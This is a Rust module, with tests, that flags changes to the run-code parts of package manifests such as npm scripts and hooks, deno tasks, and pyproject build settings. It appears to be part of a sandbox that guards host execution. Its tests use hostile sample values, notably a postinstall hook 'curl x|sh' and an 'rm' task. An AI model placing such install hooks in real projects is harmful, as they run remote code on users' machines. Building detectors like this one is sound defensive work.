//! `package.json`, `composer.json`, `deno.json`, `pyproject.toml`, `Cargo.toml`: people edit them all day, and only
//! some of their keys make the host run something. Pure.

use super::cargo;
use super::hostexec::fold;

/// Longer files are in the class unread.
pub(super) const LIMIT: usize = 1 << 20;

/// Whether a file is a manifest of which only some parts are in the class; see [`reason`].
pub(super) fn is_manifest(name: &[u8]) -> bool {
    matches!(
        fold(name).as_str(),
        "package.json" | "composer.json" | "deno.json" | "deno.jsonc" | "pyproject.toml" | "cargo.toml"
    )
}

/// Why a changed manifest is in the class. `old`: its content on the host; `new`: after the change;
/// `None` for absent, or too long to look at (which is in the class).
///
/// Dependencies are not looked at: adding one is ordinary work, and installing it is asked for.
pub(super) fn reason(name: &[u8], old: Option<&[u8]>, new: Option<&[u8]>) -> Option<&'static str> {
    const NPM: &[&str] = &[
        "scripts",
        "bin",
        "husky",
        "lint-staged",
        "simple-git-hooks",
        "pre-commit",
        "pre-push",
        "gitHooks",
        "nano-staged",
        "packageManager",
        "devEngines",
        "gypfile",
        "pnpm",
        "eslintConfig",
        "babel",
        "jest",
        "prettier",
    ];
    const COMPOSER: &[&str] = &["scripts", "bin", "config", "autoload", "autoload-dev"];
    // Rules of a linter are plugins, which are code.
    const DENO: &[&str] = &["tasks", "lint"];
    const PYTHON: &[&str] = &["build-system", "tool"];
    let name = fold(name);
    let unreadable = Some("it could not be read, so its scripts are unknown");
    let Some(new) = new else { return unreadable };
    if name == "cargo.toml" {
        let Some(new) = cargo::parse(new) else { return unreadable };
        return cargo::reason(old.and_then(cargo::parse).as_ref(), &new);
    }
    let (keys, reason, parsed): (_, _, [Option<serde_json::Value>; 2]) = if name == "pyproject.toml" {
        let parse = cargo::parse;
        (PYTHON, "its build or tool settings changed", [old.and_then(parse), parse(new)])
    } else {
        let keys = match name.as_str() {
            "package.json" => NPM,
            "composer.json" => COMPOSER,
            _ => DENO,
        };
        let parse = |b: &[u8]| serde_json::from_slice(b).ok();
        (keys, "its scripts changed", [old.and_then(parse), parse(new)])
    };
    let [before, Some(serde_json::Value::Object(after))] = parsed else { return unreadable };
    // An unreadable old file tells nothing: everything in the new one counts as new.
    let changed = keys.iter().any(|k| before.as_ref().and_then(|b| b.get(k)) != after.get(*k));
    changed.then_some(reason)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_changed_scripts_put_package_json_into_the_class() {
        let npm = |old: Option<&str>, new: &str| {
            reason(b"package.json", old.map(str::as_bytes), Some(new.as_bytes())).is_some()
        };
        let old = r#"{"name":"x","version":"1.0.0","scripts":{"test":"jest"}}"#;
        assert!(!npm(Some(old), r#"{"scripts":{"test":"jest"},"version":"2.0.0","dependencies":{"a":"1"}}"#));
        assert!(npm(Some(old), r#"{"scripts":{"test":"jest","postinstall":"curl x|sh"}}"#));
        assert!(npm(Some(old), r#"{"name":"x"}"#), "scripts removed");
        assert!(
            npm(Some(old), r#"{"scripts":{"test":"ok"},"scripts":{"test":"evil"}}"#),
            "the last one counts"
        );
        assert!(npm(None, r#"{"scripts":{}}"#), "a new file with scripts");
        assert!(!npm(None, r#"{"name":"x"}"#), "a new file without");
        assert!(npm(Some(old), "{ not json"));
        assert!(npm(Some(old), "[]"));
        assert!(npm(Some("garbage"), old));
        assert!(npm(Some(old), &"[".repeat(100_000)), "nesting is an unreadable file, not a crash");
        assert!(reason(b"package.json", None, None).is_some(), "too long to read");
    }

    #[test]
    fn only_tasks_and_plugins_put_deno_json_into_the_class() {
        let deno = |name: &[u8], new: &str| {
            let old = br#"{"tasks":{"dev":"deno run a.ts"},"imports":{}}"#;
            reason(name, Some(old), Some(new.as_bytes())).is_some()
        };
        assert!(!deno(b"deno.json", r#"{"tasks":{"dev":"deno run a.ts"},"imports":{"a":"npm:a"}}"#));
        assert!(deno(b"deno.json", r#"{"tasks":{"dev":"rm"}}"#));
        assert!(deno(b"deno.jsonc", "{} // with a comment"));
    }

    #[test]
    fn only_build_and_tool_tables_put_pyproject_into_the_class() {
        let py = |old: &str, new: &str| {
            reason(b"pyproject.toml", Some(old.as_bytes()), Some(new.as_bytes())).is_some()
        };
        let old = "[project]\nname='x'\n[build-system]\nbuild-backend='hatchling.build'\n";
        assert!(!py(old, &old.replace("'x'", "'y'")));
        assert!(py(old, &old.replace("hatchling.build", "evil")));
        assert!(py(old, "= broken"));
    }
}
